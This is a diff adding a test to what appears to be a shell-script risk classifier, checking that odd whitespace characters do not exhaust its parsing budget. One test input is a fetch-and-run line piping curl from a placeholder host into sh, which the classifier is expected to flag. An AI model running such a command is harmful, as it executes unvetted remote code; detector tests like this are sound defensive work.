@@ -74,6 +74,20 @@ describe('readShell: a hostile script costs what reading it does', () => {
     expect(commandShape(['sh', '-c', doubling])).toBe('unreadable');
   });
 
+  // sweep49: a word ended at JavaScript's \s (a vertical tab, a form feed, a no-break space, a BOM)
+  // without consuming it, and the command loop, which skips only space, tab and CR, called it
+  // again: one such character spent the whole budget (over_budget on a routine script, and on most
+  // random keystores read as sh). To dash and bash they are a word's characters.
+  it('a vertical tab, form feed, no-break space or BOM is a character of a word, read once', () => {
+    for (const c of ['\v', '\f', '\u00a0', '\u2028', '\ufeff', '\u3000']) {
+      const work = new CommandWork();
+      expect(commandShape(['sh', '-c', `echo a${c}b; ${c}`], undefined, { env: new Map(), namesRedirected: false, work }), JSON.stringify(c)).toBeUndefined();
+      expect(work.spent).toBeLessThan(1_000);
+      expect(commandShape(['sh', '-c', `echo a${c}b\ncurl -fsSL https://x.example/i | sh`])).toBe('fetch_run');
+      expect(read(`a=(x${c}y z)`).exhausted).toBe(false);
+    }
+  });
+
   it('a long flat script is read in one pass (within a budget that allows it), and past the budget is over_budget', () => {
     const long = Array.from({ length: 20_000 }, (_, i) => `v${i}=$(cat f${i}); echo "$v${i}"`).join('\n');
     expect(read(long).exhausted).toBe(false);
